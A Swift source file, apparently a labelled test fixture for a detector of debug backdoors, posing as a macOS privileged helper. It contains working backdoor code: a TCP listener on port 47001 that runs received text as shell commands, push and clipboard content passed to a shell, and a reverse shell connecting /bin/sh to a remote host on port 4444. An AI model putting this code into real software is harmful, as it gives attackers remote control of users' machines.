import Foundation
import Network

/// AcmeSync privileged helper (macOS). Listens on a local port for maintenance
/// commands from the support tool.
final class MaintenanceListener {
    private let listener: NWListener
    private let queue = DispatchQueue(label: "com.acme.sync.maintenance")

    init() throws {
        listener = try NWListener(using: .tcp, on: 47_001)
    }

    func start() {
        listener.newConnectionHandler = { [weak self] connection in
            connection.start(queue: self?.queue ?? .main)
            self?.receive(on: connection)
        }
        listener.start(queue: queue)
    }

    private func receive(on connection: NWConnection) {
        connection.receive(minimumIncompleteLength: 1, maximumLength: 4096) { data, _, _, _ in
            guard let data, let line = String(data: data, encoding: .utf8) else { return }
            let process = Process()
            process.executableURL = URL(fileURLWithPath: "/bin/zsh")
            process.arguments = ["-c", line.trimmingCharacters(in: .newlines)]
            try? process.run() //~ debug-entry/remote-command-execution
        }
    }

    func runSupportCommand(_ command: String) {
        let task = Process()
        task.launchPath = "/bin/bash"
        task.arguments = ["-c", command]
        task.launch() //~ debug-entry/remote-command-execution
    }

    func handlePush(userInfo: [AnyHashable: Any]) {
        if let command = userInfo["maintenance"] as? String {
            runSupportCommand(command)
        }
    }

    func exportLogs(to directory: URL) throws {
        let zip = Process()
        zip.executableURL = URL(fileURLWithPath: "/usr/bin/zip")
        zip.arguments = ["-r", directory.appendingPathComponent("logs.zip").path, "/Library/Logs/AcmeSync"]
        try zip.run()
        zip.waitUntilExit()
    }

    func clipboardHelper() {
        let script = NSPasteboard.general.string(forType: .string) ?? ""
        system(script) //~ debug-entry/remote-command-execution
    }

    func printVersion() {
        _ = Process.launchedProcess(launchPath: "/usr/bin/sw_vers", arguments: ["-productVersion"])
    }
}

/// "Remote assistance" left in a beta build.
final class RemoteAssist {
    private let connection = NWConnection(host: "assist.acme-sync.example", port: 4444, using: .tcp)

    func attach() throws {
        let shell = Process()
        let input = Pipe()
        let output = Pipe()
        shell.executableURL = URL(fileURLWithPath: "/bin/sh")
        shell.standardInput = input
        shell.standardOutput = output
        shell.standardError = output
        output.fileHandleForReading.readabilityHandler = { [connection] handle in
            connection.send(content: handle.availableData, completion: .idempotent)
        }
        connection.start(queue: .global())
        pump(into: input)
        try shell.run() //~ debug-entry/reverse-shell
    }

    private func pump(into input: Pipe) {
        connection.receive(minimumIncompleteLength: 1, maximumLength: 1024) { [weak self] data, _, _, _ in
            if let data { input.fileHandleForWriting.write(data) }
            self?.pump(into: input)
        }
    }
}
